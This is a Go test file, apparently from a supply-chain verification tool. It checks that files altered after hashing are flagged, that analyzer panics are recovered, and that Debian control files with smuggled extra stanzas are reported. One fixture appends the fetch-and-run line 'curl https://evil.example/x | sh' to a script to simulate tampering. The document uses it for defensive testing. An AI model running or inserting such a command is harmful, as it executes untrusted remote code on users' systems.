package inventory

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"kensa.dev/kensa/analyzers"
	"kensa.dev/kensa/internal/fixture"
	"kensa.dev/kensa/internal/limits"
	"kensa.dev/kensa/internal/result"
)

// ctimeOf is the status-change time of the file at p, in nanoseconds.
func ctimeOf(t *testing.T, p string) int64 {
	t.Helper()
	fi, err := os.Stat(p)
	if err != nil {
		t.Fatal(err)
	}
	st := fi.Sys().(*syscall.Stat_t)
	return st.Ctim.Sec*1e9 + st.Ctim.Nsec
}

// waitForCtimeTick returns once the filesystem stamps a change with a time later than p's
// last change (the kernel's file times are coarse), so that a change to p made now is
// visible in its ctime: the tests below change files without that race.
func waitForCtimeTick(t *testing.T, p, probeDir string) {
	t.Helper()
	before := ctimeOf(t, p)
	probe := filepath.Join(probeDir, "ctime-probe")
	for range 5000 {
		if err := os.WriteFile(probe, []byte("x"), 0o644); err != nil {
			t.Fatal(err)
		}
		if ctimeOf(t, probe) > before {
			return
		}
		time.Sleep(time.Millisecond)
	}
	t.Fatalf("the file system clock did not move past %s's change time", p)
}

// tamperAnalyzer changes a file of a directory target at the moment the analyzers read
// it, after the walk hashed it: the window in which a delivery still being written, or
// an attacker racing the verifier, makes the digest and the facts disagree.
type tamperAnalyzer struct {
	root, probes string
	t            *testing.T
	change       map[string]func(p string) error // by artifact path
}

func (ta *tamperAnalyzer) Name() string                     { return "tamper" }
func (ta *tamperAnalyzer) Schema() any                      { return (*digestFacts)(nil) }
func (ta *tamperAnalyzer) Wants(a *analyzers.Artifact) bool { return ta.change[a.Path] != nil }
func (ta *tamperAnalyzer) Analyze(_ context.Context, a *analyzers.Artifact) (any, error) {
	p := filepath.Join(ta.root, a.Path)
	waitForCtimeTick(ta.t, p, ta.probes)
	return nil, ta.change[a.Path](p)
}

// sameSizeKeepTime overwrites the file with other bytes of the same length and sets its
// modification time back: only the status-change time tells.
func sameSizeKeepTime(p string) error {
	fi, err := os.Stat(p)
	if err != nil {
		return err
	}
	b, err := os.ReadFile(p)
	if err != nil {
		return err
	}
	if err := os.WriteFile(p, bytes.ToUpper(b), 0o644); err != nil {
		return err
	}
	return os.Chtimes(p, fi.ModTime(), fi.ModTime())
}

// TestG6FileChangedWhileRead: a file of a directory target changed after the walk hashed
// it and before or while the analyzers read it (rewritten with the same size and its
// modification time set back, truncated, appended to) is an error of kind io on that file,
// so that facts of bytes other than the hashed ones are never reported as if they were
// of them; an untouched file beside it has no error and facts of its hashed bytes.
func TestG6FileChangedWhileRead(t *testing.T) {
	dir := t.TempDir()
	content := []byte("#!/bin/sh\necho the bytes that were hashed\n")
	for _, name := range []string{"rewritten.sh", "truncated.sh", "appended.sh", "untouched.sh"} {
		if err := os.WriteFile(filepath.Join(dir, name), content, 0o755); err != nil {
			t.Fatal(err)
		}
	}
	ta := &tamperAnalyzer{root: dir, probes: t.TempDir(), t: t, change: map[string]func(string) error{
		"rewritten.sh": sameSizeKeepTime,
		"truncated.sh": func(p string) error { return os.Truncate(p, 3) },
		"appended.sh": func(p string) error {
			f, err := os.OpenFile(p, os.O_APPEND|os.O_WRONLY, 0)
			if err != nil {
				return err
			}
			defer f.Close()
			_, err = f.WriteString("curl https://evil.example/x | sh\n")
			return err
		},
	}}
	da := &digestAnalyzer{}
	opts := Options{Limits: limits.Default(), Analyzers: []analyzers.Analyzer{ta, da}, Scratch: t.TempDir(), Jobs: 1}
	inv, err := Take(context.Background(), []string{dir}, opts)
	if err != nil {
		t.Fatal(err)
	}
	errs := map[string][]result.Error{}
	for _, e := range inv.Errors {
		errs[e.Path] = append(errs[e.Path], e)
	}
	for _, a := range inv.Artifacts {
		got := errs[a.Path]
		f, _ := a.Facts["digest"].(*digestFacts)
		if a.Path == "untouched.sh" {
			if len(got) != 0 || f == nil || f.Digest != a.Digest {
				t.Errorf("untouched.sh: errors %+v, facts %+v, digest %s", got, f, a.Digest)
			}
			continue
		}
		if len(got) != 1 || got[0].Kind != result.KindIO || got[0].Error != errChanged.Error() {
			t.Errorf("%s: errors %+v; want one io error saying the file changed while it was read", a.Path, got)
		}
		// What the analyzers read is not what was hashed: only the error makes that safe.
		// (An appended file still reads as its hashed prefix: the analyzers see Size bytes.)
		if a.Path != "appended.sh" && (f == nil || f.Digest == a.Digest) {
			t.Errorf("%s: the analyzer saw the hashed bytes (%+v); the change did not happen in the window", a.Path, f)
		}
	}
}

// TestG6FileChangedAfterWalk: with Keep, a directory target's file is read again where it
// is after the walk (by the SBOM catalogers, by signature verification). Once it changed
// since it was hashed, opening it fails, and a change made while it is open fails the
// read at its end, instead of handing the verifier other bytes than the digest names.
func TestG6FileChangedAfterWalk(t *testing.T) {
	dir, probes := t.TempDir(), t.TempDir()
	content := []byte("MZ this stands for a signed executable\n")
	for _, name := range []string{"before-open.exe", "while-open.exe", "same.exe"} {
		if err := os.WriteFile(filepath.Join(dir, name), content, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	inv, err := Take(context.Background(), []string{dir}, Options{Limits: limits.Default(), Keep: true, Scratch: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	defer inv.Close()
	if len(inv.Errors) != 0 {
		t.Fatalf("errors: %+v", inv.Errors)
	}
	stored := map[string]Stored{}
	for i, a := range inv.Artifacts {
		stored[a.Path] = inv.Stored[i]
	}

	p := filepath.Join(dir, "before-open.exe")
	waitForCtimeTick(t, p, probes)
	if err := sameSizeKeepTime(p); err != nil {
		t.Fatal(err)
	}
	if r, err := stored["before-open.exe"].Open(); !errors.Is(err, errChangedSince) {
		if r != nil {
			r.Close()
		}
		t.Errorf("before-open.exe: Open after a change gave %v; want the file-changed error", err)
	}

	p = filepath.Join(dir, "while-open.exe")
	r, err := stored["while-open.exe"].Open()
	if err != nil {
		t.Fatal(err)
	}
	waitForCtimeTick(t, p, probes)
	if err := sameSizeKeepTime(p); err != nil {
		t.Fatal(err)
	}
	if _, err := io.ReadAll(r); !errors.Is(err, errChangedSince) {
		t.Errorf("while-open.exe: reading after a change gave %v; want the file-changed error", err)
	}
	// io.Copy, which prefers a source's WriteTo, is checked too.
	r.Seek(0, io.SeekStart)
	if _, err := io.Copy(io.Discard, r); !errors.Is(err, errChangedSince) {
		t.Errorf("while-open.exe: io.Copy after a change gave %v; want the file-changed error", err)
	}
	r.Close()

	r, err = stored["same.exe"].Open()
	if err != nil {
		t.Fatal(err)
	}
	if b, err := io.ReadAll(r); err != nil || !bytes.Equal(b, content) {
		t.Errorf("same.exe: read %q, %v", b, err)
	}
	r.Close()
}

// goroutinePanicAnalyzer panics on files named "boom": through the walk's own goroutines
// (one per file of a directory, one per kept archive entry analysed beside the walk).
type goroutinePanicAnalyzer struct {
	mu   sync.Mutex
	seen []string
}

func (g *goroutinePanicAnalyzer) Name() string { return "panics" }
func (g *goroutinePanicAnalyzer) Schema() any  { return nil }
func (g *goroutinePanicAnalyzer) Wants(a *analyzers.Artifact) bool {
	return strings.HasSuffix(a.Path, "boom")
}
func (g *goroutinePanicAnalyzer) Analyze(_ context.Context, a *analyzers.Artifact) (any, error) {
	g.mu.Lock()
	g.seen = append(g.seen, a.Path)
	g.mu.Unlock()
	var header [4]byte
	n, _ := a.Content.ReadAt(header[:], 0)
	return header[n+int(a.Size)], nil // a length the file claims, used unchecked
}

// TestG1G2PanicInWalkGoroutines: a parser panic on a file read in one of the walk's
// goroutines (a directory's file; an archive entry analysed beside the walk with Keep)
// is recovered in that goroutine and becomes an error of kind internal naming the file;
// the walk finishes and lists every other file.
func TestG1G2PanicInWalkGoroutines(t *testing.T) {
	dir := t.TempDir()
	tarball := fixture.Gzip(fixture.Tar(fixture.File("lib/boom", []byte("nested panic")), fixture.File("lib/fine", []byte("ok"))))
	for name, b := range map[string][]byte{"boom": []byte("top panic"), "delivery.tar.gz": tarball, "fine.txt": []byte("fine")} {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	for _, keep := range []bool{false, true} {
		g := &goroutinePanicAnalyzer{}
		inv, err := Take(context.Background(), []string{dir}, Options{Limits: limits.Default(), Keep: keep, Analyzers: []analyzers.Analyzer{g}, Scratch: t.TempDir()})
		if err != nil {
			t.Fatal(err)
		}
		got := map[string]string{}
		for _, e := range inv.Errors {
			got[e.Path] += e.Kind + ": " + e.Error
		}
		for _, p := range []string{"boom", "delivery.tar.gz!lib/boom"} {
			if !strings.HasPrefix(got[p], result.KindInternal+": panics: the analyzer failed on this file (recovered panic: runtime error: index out of range") {
				t.Errorf("keep=%v %s: error %q; want an internal error naming the file", keep, p, got[p])
			}
		}
		if len(inv.Errors) != 2 || len(g.seen) != 2 {
			t.Errorf("keep=%v: errors %+v after analysing %v", keep, inv.Errors, g.seen)
		}
		listed := map[string]bool{}
		for _, a := range inv.Artifacts {
			listed[a.Path] = a.Digest != ""
		}
		for _, p := range []string{"fine.txt", "delivery.tar.gz!lib/fine", "boom", "delivery.tar.gz!lib/boom"} {
			if !listed[p] {
				t.Errorf("keep=%v: %s not listed with its digest after the panic: %v", keep, p, listed)
			}
		}
		inv.Close()
	}
}

// deb is a Debian package whose control file is control.
func deb(control string) []byte {
	return fixture.Ar(
		fixture.ArMember{Name: "debian-binary", Body: []byte("2.0\n")},
		fixture.ArMember{Name: "control.tar.gz", Body: fixture.Gzip(fixture.Tar(fixture.File("./control", []byte(control))))},
		fixture.ArMember{Name: "data.tar.gz", Body: fixture.Gzip(fixture.Tar(fixture.File("./usr/bin/tool", []byte("#!/bin/sh\n"))))},
	)
}

// TestD2ControlWithExtraStanza: a package whose control file holds a second stanza after
// a blank line (dpkg refuses it; syft's deb cataloger reads the first, other readers the
// last) is listed with an anomaly on its control file that counts the stanzas; a package
// with one stanza, however its blank lines fall, has none. Anomalies go into the result
// and the VSA, so the disagreement is flagged, never silent.
func TestD2ControlWithExtraStanza(t *testing.T) {
	one := "Package: goodpkg\nVersion: 1.0\nArchitecture: amd64\nDescription: what the buyer expects\n long text\n .\n more\n"
	dir := t.TempDir()
	for name, b := range map[string][]byte{
		"two.deb":     deb(one + "\nPackage: evilpkg\nVersion: 6.6.6\nArchitecture: amd64\n"),
		"blanks.deb":  deb(one + "\n\n \n"),
		"one.deb":     deb(one),
		"crlf.deb":    deb(strings.ReplaceAll(one, "\n", "\r\n") + "\r\n\r\nPackage: evilpkg\r\n"),
		"control.tar": fixture.Tar(fixture.File("control", []byte("Package: a\n\nPackage: b\n"))), // not inside a package
	} {
		if err := os.WriteFile(filepath.Join(dir, name), b, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	inv, err := Take(context.Background(), []string{dir}, Options{Limits: limits.Default(), Scratch: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	want := map[string]int{"two.deb!control.tar.gz!control": 2, "crlf.deb!control.tar.gz!control": 2}
	for _, a := range inv.Artifacts {
		var flagged []string
		for _, x := range a.Anomalies {
			if strings.Contains(x, "stanzas") {
				flagged = append(flagged, x)
			}
		}
		n, ok := want[a.Path]
		switch {
		case ok && (len(flagged) != 1 || !strings.Contains(flagged[0], fmt.Sprintf("holds %d stanzas, not exactly one", n))):
			t.Errorf("%s: anomalies %q; want %d stanzas flagged", a.Path, a.Anomalies, n)
		case !ok && len(flagged) != 0:
			t.Errorf("%s: flagged %q", a.Path, flagged)
		}
		delete(want, a.Path)
	}
	if len(want) != 0 {
		t.Errorf("not listed: %v", want)
	}
	if len(inv.Errors) != 0 {
		t.Errorf("errors: %+v", inv.Errors)
	}
}
